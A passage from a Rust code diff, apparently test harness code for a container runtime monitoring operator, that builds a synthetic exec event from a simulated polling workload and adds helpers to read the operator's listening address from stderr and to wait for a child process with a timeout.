+            id: p.container_id.clone(),
+            runtime: Runtime::Containerd,
+        }),
+        kind: EventKind::Exec(Exec {
+            filename: filename.into(),
+            exe: exe.into(),
+            parent_comm: parent.into(),
+            ns_pid: pid - p.main_pid + 1,
+            argv: Argv {
+                args,
+                size,
+                truncated: false,
+                read_failed: false,
+            },
+            from_proc_scan: false,
+        }),
+    };
+    let root = Ancestor {
+        pid: p.main_pid,
+        exe: "sh".into(),
+        argv: vec![
+            "sh".into(),
+            "-c".into(),
+            "while true; do date; wget -q -O- http://backend:8080/api; sleep 1; done".into(),
+        ],
+    };
+    WorkloadEvent {
+        // the agent's own guess; the operator decides from its watches
+        workload: String::new(),
+        image: String::new(),
+        event,
+        process: Some(Ancestor {
+            pid,
+            exe: exe.into(),
+            argv: argv.iter().map(|a| a.to_string()).collect(),
+        }),
+        chain: vec![root],
+    }
+}
+
+/// The operator's listening address, from its first stderr line; the rest
+/// of stderr goes on into the log.
+fn listening(op: &mut Child, log: &std::fs::File) -> Result<String> {
+    let stderr = op.stderr.take().context("operator stderr")?;
+    let (tx, rx) = std::sync::mpsc::channel();
+    let mut log = log.try_clone()?;
+    std::thread::spawn(move || {
+        use std::io::Write as _;
+        let mut sent = false;
+        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
+            let _ = writeln!(log, "{line}");
+            if !sent {
+                if let Some(a) = serde_json::from_str::<Value>(&line)
+                    .ok()
+                    .and_then(|v| v["listening"].as_str().map(String::from))
+                {
+                    let _ = tx.send(a);
+                    sent = true;
+                }
+            }
+        }
+    });
+    rx.recv_timeout(Duration::from_secs(120))
+        .context("the operator did not start listening within 120 s (see operator.log)")
+}
+
+fn wait_timeout(c: &mut Child, limit: Duration) -> Option<std::process::ExitStatus> {
+    let t = Instant::now();
+    while t.elapsed() < limit {
+        if let Ok(Some(s)) = c.try_wait() {
+            return Some(s);
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let _ = c.kill();
+    None
+}
